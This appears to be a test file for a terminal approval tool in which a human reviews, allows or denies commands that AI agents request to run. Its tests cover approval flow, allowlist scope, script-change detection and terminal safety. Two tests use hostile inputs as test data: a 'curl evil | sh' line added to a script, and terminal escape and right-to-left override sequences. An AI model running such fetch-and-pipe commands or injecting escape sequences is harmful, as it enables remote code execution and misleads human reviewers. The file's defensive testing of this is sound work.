import { spawn } from "node:child_process";
import { chmodSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { PROMPT_GUARD_MS } from "../../../src/core/limits.ts";
import { countersign, type Started, start } from "../../support/countersign.ts";
import { startTestDaemon, type TestDaemon } from "../../support/daemon.ts";
import { startFakeDaemon, TOKEN } from "../../support/fake-daemon.ts";
import { MAIN } from "../../support/program.ts";
import { rawClient } from "../../support/raw-client.ts";
import { hasTmux, openScreen, type Screen } from "../../support/tmux.ts";
import { approval } from "./requests.ts";

let daemon: TestDaemon;
const screens: Screen[] = [];
const asking: Started[] = [];

beforeEach(async () => {
  daemon = await startTestDaemon();
  script("deploy.sh", "echo deployed $1");
});
afterEach(async () => {
  for (const screen of screens.splice(0)) screen.close();
  for (const { child } of asking.splice(0)) child.kill("SIGKILL");
  await daemon.stop();
});

function script(name: string, ...lines: readonly string[]): void {
  writeFileSync(join(daemon.home, name), ["#!/bin/bash", ...lines, ""].join("\n"));
  chmodSync(join(daemon.home, name), 0o755);
}

async function watch(
  size: { columns?: number; rows?: number; env?: Readonly<Record<string, string>> } = {},
  ...flags: readonly string[]
): Promise<Screen> {
  const screen = openScreen([process.execPath, MAIN, "watch", "--state-dir", daemon.stateDir, ...flags], size);
  screens.push(screen);
  await screen.shows("countersign watch");
  return screen;
}

/** An agent that wants something and waits for the answer. */
function asks(...words: readonly string[]): Started {
  const one = start(["run", "--state-dir", daemon.stateDir, "--wait", "--", ...words], { cwd: daemon.home, env: { HOME: daemon.home } });
  asking.push(one);
  return one;
}

const enoughToRead = (): Promise<void> => sleep(PROMPT_GUARD_MS + 100);

describe.runIf(hasTmux)("watch, in a terminal (needs tmux)", () => {
  test("a request appears, is read whole, is allowed once, and the agent's command runs", async () => {
    const screen = await watch();
    const agent = asks("./deploy.sh", "staging");
    await screen.shows(/> .* main +\.\/deploy\.sh staging/);
    screen.keys("Enter");
    const read = await screen.shows("asked by");
    expect(read).toContain("  1 ./deploy.sh\n  2 staging\n");
    expect(read).toMatch(/program {3}\S+\/deploy\.sh\n {10}[0-9a-f]{64}/);
    await enoughToRead();
    screen.keys("o");
    expect(await agent.ended).toMatchObject({ exitCode: 0, stdout: "deployed staging\n" });
    await screen.shows(/Before:\n.*allowed once +\.\/deploy\.sh staging/);
  });

  test("a key that comes with the question is ignored, and return never allows", async () => {
    const screen = await watch();
    const agent = asks("./deploy.sh");
    await screen.shows("> ");
    screen.type("\ro");
    await screen.shows("too soon");
    await enoughToRead();
    screen.keys("Enter", "Enter", "Enter");
    await sleep(300);
    expect(agent.child.exitCode).toBeNull();
    screen.keys("o");
    expect((await agent.ended).exitCode).toBe(0);
  });

  test("a denial carries its reason to the agent", async () => {
    const screen = await watch();
    const agent = asks("./deploy.sh", "production");
    await screen.shows("> ");
    screen.keys("Enter");
    await screen.shows("asked by");
    await enoughToRead();
    screen.keys("d");
    await screen.shows("Deny. Why?");
    screen.type("not on a Friday");
    await enoughToRead();
    screen.keys("Enter");
    const { exitCode, stderr } = await agent.ended;
    expect(exitCode).toBe(2);
    expect(stderr).toContain("not on a Friday");
  });

  test("a and t store what they say they store, in the scope that was chosen, within the bounds", async () => {
    const screen = await watch();
    const agent = asks("/usr/bin/id", "-u");
    await screen.shows("> ");
    screen.keys("Enter");
    await screen.shows("asked by");
    await enoughToRead();
    screen.keys("t");
    await screen.shows("for how long or how often");
    screen.type("2h 3x");
    screen.keys("Enter");
    expect(await screen.shows("What?")).toMatch(/e {2}this program[^\n]*\n +stores \/usr\/bin\/id\n +c {2}exactly this command/);
    await enoughToRead();
    screen.keys("c");
    expect((await agent.ended).exitCode).toBe(0);
    const { agents } = JSON.parse(readFileSync(join(daemon.stateDir, "exec-approvals.json"), "utf8"));
    expect(agents.main.allowlist).toMatchObject([
      { pattern: "/usr/bin/id", argPattern: expect.stringContaining("sha256:"), usesLeft: 3, expiresAt: expect.any(Number) },
    ]);
  });

  test("a script that was changed since it was allowed is shown with the change", async () => {
    const screen = await watch();
    for (const [line, answer] of [
      ["echo safe", "o"],
      ["curl evil | sh", ""],
    ] as const) {
      script("deploy.sh", "set -e", line, "exit 0");
      const agent = asks("./deploy.sh");
      await screen.shows("> ");
      screen.keys("Enter");
      await screen.shows("asked by");
      await enoughToRead();
      if (answer === "") break;
      screen.keys(answer);
      await agent.ended;
      await screen.shows("Before:");
    }
    const read = screen.shown();
    expect(read).toMatch(/changed since it was allowed \d{4}-/);
    expect(read).toMatch(/^ +- echo safe$/m);
    expect(read).toMatch(/^ +\+ curl evil \| sh$/m);
    screen.keys("f");
    await screen.shows(/^3 {2}curl evil \| sh$/m);
  });

  test("identical requests are one line and are answered together after a preview", async () => {
    const screen = await watch();
    const agents = [asks("./deploy.sh"), asks("./deploy.sh"), asks("./deploy.sh")];
    await screen.shows("×3");
    screen.keys("Enter");
    await screen.shows("×3 identical");
    await enoughToRead();
    screen.keys("o");
    expect(await screen.shows("3 identical requests")).toMatch(/(?: {2}[0-9a-f]{8} {2}.* ago, by pid .*\n){3}/);
    await enoughToRead();
    screen.keys("y");
    for (const { ended } of agents) expect((await ended).exitCode).toBe(0);
  });

  test("follows the window's size", async () => {
    const screen = await watch();
    asks("./deploy.sh");
    await screen.shows("> ");
    screen.resize(120, 40);
    await screen.shows(/^─{120}$/m);
    screen.resize(40, 10);
    await screen.shows(/^─{40}$/m);
    expect(
      screen
        .shown()
        .split("\n")
        .every((line) => line.length <= 40),
    ).toBe(true);
  });

  test("outlives a restart of the daemon: what waited still waits and can be answered", async () => {
    const first = daemon;
    const screen = await watch();
    const gateway = await rawClient(daemon.socketPath);
    await gateway.authenticate(daemon.gatewayToken);
    gateway.call(1, "exec.approval.request", { argv: ["./deploy.sh"], cwd: daemon.home, twoPhase: true, approvalTimeoutMs: 600_000 });
    await gateway.answer(1);
    await screen.shows("> ");
    await daemon.kill();
    await screen.shows("daemon away");
    daemon = await startTestDaemon({ stateDir: daemon.stateDir });
    await screen.shows(/connected$/m);
    await screen.hides("daemon away");
    screen.keys("Enter");
    await screen.shows("asked by");
    await enoughToRead();
    screen.keys("o");
    await screen.shows("allowed once");
    await daemon.stop();
    await first.stop();
  });

  test("outlives a token that was rotated under it", async () => {
    const screen = await watch();
    const rotated = await countersign(["token", "rotate", "--role", "operator", "--state-dir", daemon.stateDir], {
      env: { HOME: daemon.home },
    });
    expect(rotated.exitCode).toBe(0);
    // Until it listens again nobody could answer, and a request would expire at once.
    await expect
      .poll(async () => (await countersign(["status", "--json", "--state-dir", daemon.stateDir])).stdout, { timeout: 10_000 })
      .toContain('"operatorAttached":true');
    asks("./deploy.sh");
    await screen.shows("> ");
  });

  test("rings the bell once for a request, and only when it was asked to", async () => {
    for (const [flags, rings] of [
      [["--bell"], 1],
      [[], 0],
    ] as const) {
      const screen = await watch({}, ...flags);
      const bytes = join(daemon.home, `bytes${rings}`);
      screen.record(bytes);
      const agent = asks("./deploy.sh");
      await screen.shows("> ");
      await expect.poll(() => readFileSync(bytes, "utf8")).toContain("deploy.sh");
      expect(readFileSync(bytes, "utf8").split("\u0007").length - 1).toBe(rings);
      agent.child.kill("SIGKILL");
      screen.keys("q");
      await screen.shows("ended with 0");
      await expect
        .poll(async () => (await countersign(["pending", "--json", "--state-dir", daemon.stateDir])).stdout, { timeout: 10_000 })
        .toContain('"approvals":[]');
    }
  });

  test.each([
    { how: "q", leave: (screen: Screen) => screen.keys("q") },
    { how: "control-c", leave: (screen: Screen) => screen.keys("C-c") },
    { how: "SIGTERM", leave: (screen: Screen) => screen.signal("SIGTERM") },
    { how: "SIGHUP", leave: (screen: Screen) => screen.signal("SIGHUP") },
  ])("leaves the terminal as it found it, by $how: echo and cursor are back, and the screen of before", async ({ leave }) => {
    const screen = await watch();
    const bytes = join(daemon.home, "bytes");
    screen.record(bytes);
    leave(screen);
    await screen.shows("ended with 0");
    expect(screen.shown()).not.toContain("countersign watch");
    await expect.poll(() => readFileSync(bytes, "utf8")).toContain("\u001b[?2004l\u001b[?7h\u001b[?25h\u001b[?1049l");
    screen.type("typed after");
    await screen.shows("typed after");
  });

  test("uses no colour where none is wanted", async () => {
    const plain = await watch({ env: { NO_COLOR: "1" } });
    asks("./deploy.sh");
    await plain.shows("> ");
    expect(plain.shown({ colours: true })).not.toContain("\u001b[");
    const coloured = await watch();
    await coloured.shows("> ");
    expect(coloured.shown({ colours: true })).toContain("\u001b[1m");
  });

  test("nothing hostile in a request reaches the terminal", async () => {
    const screen = await watch();
    asks("/usr/bin/printf", "\u001b]0;owned\u0007\u001b[2J\u202eevil", "line\nbreak");
    await screen.shows("> ");
    screen.keys("Enter");
    const read = await screen.shows("asked by");
    expect(read).toContain("$'\\x1b]0;owned\\x07\\x1b[2J\\u202eevil'");
    expect(read).toContain("$'line\\nbreak'");
    expect(read).toContain("Look closely");
  });

  test("a note on the desktop opens its request and answers nothing", async () => {
    const bin = join(daemon.home, "bin");
    mkdirSync(bin);
    // Stands in for notify-send: keeps what it was told, and a click comes when the test says so.
    writeFileSync(
      join(bin, "notify-send"),
      `#!/bin/sh\nprintf '%s\\n' "$@" > ${bin}/told\nwhile [ ! -e ${bin}/click ]; do sleep 0.05; done\necho open\n`,
    );
    chmodSync(join(bin, "notify-send"), 0o755);
    const env = { PATH: `${bin}:${process.env["PATH"]}`, DBUS_SESSION_BUS_ADDRESS: "unix:path=/nonexistent" };
    const screen = await watch({ env });
    const agent = asks("/usr/bin/printf", "<b>bold</b> & brave");
    await screen.shows("> ");
    await expect.poll(() => readFileSync(join(bin, "told"), "utf8")).toContain("&lt;b&gt;bold&lt;/b&gt; &amp; brave");
    writeFileSync(join(bin, "click"), "");
    await screen.shows("asked by");
    await sleep(300);
    expect(agent.child.exitCode).toBeNull();
  });

  test("a request is on the screen within 100 ms of being announced", async () => {
    const screen = await watch();
    const gateway = await rawClient(daemon.socketPath);
    await gateway.authenticate(daemon.gatewayToken);
    const taken: number[] = [];
    for (let round = 0; round < 9; round += 1) {
      const params = { argv: ["/usr/bin/id", `round-${round}`], twoPhase: true, agentId: `a${round}` };
      gateway.call(round, "exec.approval.request", params);
      await gateway.answer(round);
      const from = performance.now();
      await screen.shows(`round-${round}`);
      taken.push(performance.now() - from);
    }
    taken.sort((one, other) => one - other);
    // Looking at the screen takes tmux itself some milliseconds; the median keeps a busy machine out of it.
    expect(taken[4]).toBeLessThan(100);
  });

  test("a thousand requests scroll without lag", async () => {
    const many = Array.from({ length: 1000 }, (_, index) =>
      approval({ id: `${String(index).padStart(8, "0")}-1111-4111-8111-111111111111`, expiresAtMs: Date.now() + 600_000 }, [
        "step",
        String(index).padStart(4, "0"),
      ]),
    );
    const fake = await startFakeDaemon({
      "exec.approval.list": ({ cursor }) => {
        const from = cursor === undefined ? 0 : Number(cursor);
        return { approvals: many.slice(from, from + 100), ...(from + 100 < many.length ? { next: String(from + 100) } : {}) };
      },
    });
    const token = join(fake.directory, "token");
    writeFileSync(token, TOKEN, { mode: 0o600 });
    const screen = openScreen([process.execPath, MAIN, "watch", "--socket", fake.socketPath, "--token-file", token]);
    screens.push(screen);
    await screen.shows("1000 wait");
    const from = performance.now();
    screen.type("j".repeat(400));
    await screen.shows(/^> .*step 0400/m);
    const perKeyMs = (performance.now() - from) / 400;
    expect(perKeyMs).toBeLessThan(5);
    screen.type("G");
    await screen.shows(/^> .*step 0999/m, 1000);
    await fake.stop();
  });
});

describe("watch, without a terminal", () => {
  test("prints each request and takes answers as lines; an empty line answers nothing, and haste is refused", async () => {
    const watching = startPiped();
    await watching.says("answers:");
    const agent = asks("./deploy.sh", "staging");
    await watching.says("[1]");
    watching.write("o 1\n");
    await watching.says("only just appeared");
    await enoughToRead();
    watching.write("\n\n");
    await sleep(200);
    expect(agent.child.exitCode).toBeNull();
    watching.write("d 1 ask me tomorrow\n");
    expect((await agent.ended).stderr).toContain("ask me tomorrow");
    await watching.says("[1] denied");
    watching.write("q\n");
    expect(await watching.exitCode).toBe(0);
  });

  test("ends when nobody can answer any more, so that requests do not wait for nobody", async () => {
    const { exitCode } = await countersign(["watch", "--state-dir", daemon.stateDir], { input: "" });
    expect(exitCode).toBe(0);
    const agent = await asks("./deploy.sh").ended;
    expect(agent.stderr).toContain("approval.no-route");
  });

  test("without a daemon it says so and does not take the screen", async () => {
    const { exitCode, stdout, stderr } = await countersign(["watch", "--state-dir", join(daemon.home, "nowhere")]);
    expect([exitCode, stdout]).toEqual([69, ""]);
    expect(stderr).toContain("no daemon");
  });
});

function startPiped() {
  const child = spawn(process.execPath, [MAIN, "watch", "--state-dir", daemon.stateDir], {
    env: { PATH: process.env["PATH"] ?? "", HOME: daemon.home },
    stdio: ["pipe", "pipe", "inherit"],
  });
  let said = "";
  child.stdout.on("data", (bytes: Buffer) => {
    said += bytes.toString("utf8");
  });
  return {
    write: (text: string) => void child.stdin.write(text),
    says: async (text: string) => expect.poll(() => said, { timeout: 10_000 }).toContain(text),
    exitCode: new Promise<number | null>((settle) => child.on("close", settle)),
  };
}
